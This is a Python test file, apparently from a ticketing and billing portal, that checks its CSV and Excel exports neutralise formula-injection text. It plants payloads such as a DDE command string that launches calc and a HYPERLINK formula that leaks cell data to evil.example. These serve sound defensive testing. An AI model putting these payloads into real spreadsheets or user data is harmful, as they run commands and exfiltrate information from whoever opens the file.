"""Every file a list can be saved as, found by walking the routes: no cell of it is a formula to a spreadsheet, whatever
people outside wrote into subjects, names, files and reasons."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from lxml import etree

from api.portal import PORTAL_RULES
from api.portal.catalogue import Texts
from tests.support.api import World, world_on
from tests.support.planted import Planted, plant
from tests.support.portal import browsing
from ticketos.dev.database import PostgresUrls
from ticketos.reports.workbook import MEDIA

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMS = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"Pay")', "SUM(1+1)", "1+1", "2-3", "x")
TEXTS = [f"{start}{form}{n}" for n, form in enumerate(FORMS * 4) for start in STARTS]
FILES = sorted(path for method, path in PORTAL_RULES if method == "GET" and path.endswith(".csv"))
NO_WORDS = {
    *("/billing.csv", "/billing/held.csv", "/insights.csv", "/books/entries.csv", "/books/balance.csv"),
    "/quality/rework.csv",
    "/statement.csv",
    "/invoices/{invoice_id}/lines/{line_id}/evidence.csv",
}
"""Files of figures and names of ours, where this world has no row with words from outside."""


@pytest.fixture(scope="module")
def world(database: PostgresUrls, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder: Path = tmp_path_factory.mktemp("portal")
    with world_on(database, folder) as made:
        yield made


@pytest.fixture(scope="module")
def planted(world: World) -> Planted:
    return plant(world, TEXTS)


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("path", FILES)
async def test_no_cell_is_a_formula(world: World, planted: Planted, path: str) -> None:
    ids = {"invoice_id": planted.ids["issued"], "line_id": planted.ids["line"]}
    address = re.sub(r"\{(\w+)\}", lambda found: str(ids[found[1]]), path)
    read = neutral = 0
    for who in ("client", "ops", "finance"):
        async with browsing(world, planted.people[who]) as browser:
            for query in ("", "?view=all", "?state=all", "?view=decided", "?book=acme&period=2026-10"):
                answer = await browser.client.get(address + query)
                if answer.status_code in (303, 403, 404):
                    continue
                assert answer.status_code == 200, (address, answer.status_code)
                assert "attachment" in answer.headers["content-disposition"]
                for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))):
                    for cell in row:
                        read += 1
                        neutral += cell.startswith(tuple(f"'{one}" for one in STARTS))
                        assert not cell.startswith(STARTS) or _number(cell), (address, cell)
    assert read > 0 or "{" in path, path
    assert neutral > 0 or path in NO_WORDS, path


@pytest.mark.parametrize("path", FILES)
async def test_the_same_list_is_a_workbook_without_a_formula(
    world: World, planted: Planted, path: str
) -> None:
    ids = {"invoice_id": planted.ids["issued"], "line_id": planted.ids["line"]}
    address = re.sub(r"\{(\w+)\}", lambda found: str(ids[found[1]]), path)
    query = {"state": "all", "view": "all"} | (
        {"book": "acme", "period": "2026-10"} if path.startswith("/books") else {}
    )
    seen = 0
    for who in ("client", "ops", "finance"):
        async with browsing(world, planted.people[who]) as browser:
            plain = await browser.client.get(address, params=query)
            if plain.status_code in (303, 403, 404):
                continue
            answer = await browser.client.get(address, params={**query, "as": "xlsx"})
            assert answer.status_code == 200
            assert answer.headers["content-type"] == MEDIA
            assert ".xlsx" in answer.headers["content-disposition"]
            rows = _sheet(answer.content)
            written = list(csv.reader(io.StringIO(plain.text.removeprefix("\ufeff"))))
            assert len(rows) == len(written)
            assert rows[0] == written[0]
            for text in (one for row in rows for one in row):
                assert not text.startswith(STARTS) or _number(text), (address, text)
            seen += 1
    assert seen > 0 or "{" in path


def _sheet(content: bytes) -> list[list[str]]:
    """Rows of a workbook's sheet as text; a formula or a link in it is an error."""
    space = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        page = etree.fromstring(packed.read("xl/worksheets/sheet1.xml"))
        kept = etree.fromstring(packed.read("xl/sharedStrings.xml"))
    assert not page.xpath("//s:f | //s:hyperlink", namespaces=space)
    texts = ["".join(one.itertext()) for one in kept.xpath("//s:si", namespaces=space)]
    return [
        [
            texts[int(value)] if cell.get("t") == "s" else value
            for cell in row.xpath("s:c", namespaces=space)
            for value in cell.xpath("s:v/text()", namespaces=space)
        ]
        for row in page.xpath("//s:row", namespaces=space)
    ]


@pytest.mark.parametrize("path", FILES)
async def test_every_column_has_a_word_for_paper(world: World, planted: Planted, path: str) -> None:
    """CSV and workbooks name columns as the API does; paper says what they are."""
    t = Texts()
    ids = {"invoice_id": planted.ids["issued"], "line_id": planted.ids["line"]}
    address = re.sub(r"\{(\w+)\}", lambda found: str(ids[found[1]]), path)
    seen: set[str] = set()
    for who in ("client", "ops", "finance"):
        async with browsing(world, planted.people[who]) as browser:
            for query in ("", "?book=acme&period=2026-10", "?grain=day&periods=1"):
                answer = await browser.client.get(address + query)
                if answer.status_code == 200:
                    seen |= set(next(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")))))
    assert seen or "{" in path
    for name in seen:
        assert "_" not in t.column(name), name
        measure = f"measures.{name.removeprefix('measure_')}.name"
        assert any(t.has(key) for key in (f"columns.{name}", measure, f"words.field.{name}")), name


@pytest.mark.parametrize(("kind", "where"), [("xlsx", "workbook"), ("pdf", "printed")])
async def test_more_rows_than_a_workbook_or_paper_takes_are_refused_in_words(
    world: World, planted: Planted, monkeypatch: pytest.MonkeyPatch, kind: str, where: str
) -> None:
    monkeypatch.setattr(f"ticketos.reports.{where}.MOST_ROWS", 1)
    monkeypatch.setattr("api.portal.routes.tickets.FILE_PAGE", 1)
    async with browsing(world, planted.people["ops"]) as browser:
        refused = await browser.get(f"/tickets.csv?state=all&as={kind}")
        assert refused.status == 413
        assert "take it as CSV" in refused.text
